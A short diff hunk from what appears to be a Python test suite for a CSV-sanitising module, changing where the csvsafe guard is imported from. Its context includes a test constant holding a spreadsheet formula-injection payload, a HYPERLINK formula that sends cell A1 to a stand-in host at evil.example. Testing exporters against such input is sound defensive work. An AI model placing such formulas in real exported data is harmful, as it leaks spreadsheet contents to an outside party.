@@ -16,7 +16,7 @@ from click.testing import CliRunner
 from hypothesis import given
 from hypothesis import strategies as st
 
-from scoring import csvsafe
+from tabular import guard as csvsafe
 from scoring import io as scoring_io
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
